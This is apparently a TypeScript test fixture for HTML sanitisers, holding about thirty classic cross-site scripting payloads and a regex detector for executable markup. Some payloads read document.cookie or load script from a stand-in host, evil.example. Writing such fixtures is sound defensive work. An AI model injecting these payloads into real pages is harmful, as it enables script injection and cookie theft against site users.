/**
 * Classic XSS vectors (script tags, event handlers, javascript: and data: URLs, SVG, broken
 * markup, encoded schemes). Used by the server and SPA sanitiser tests.
 */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<video><source onerror="alert(1)"></video>',
  '<a href="//evil.example/">protocol-relative</a>',
] as const;

/** True when markup still carries something a browser could execute or navigate to unsafely. */
export function looksExecutable(html: string): boolean {
  return (
    /<\s*(script|iframe|object|embed|svg|math|style|form|input|meta|link|base|video|source|img|body|details)\b/i.test(html) ||
    /\son[a-z]+\s*=/i.test(html) ||
    /(javascript|vbscript|data)\s*:/i.test(html.replace(/&#0*58;?|&colon;/gi, ':')) ||
    /href\s*=\s*["']?\/\//i.test(html)
  );
}
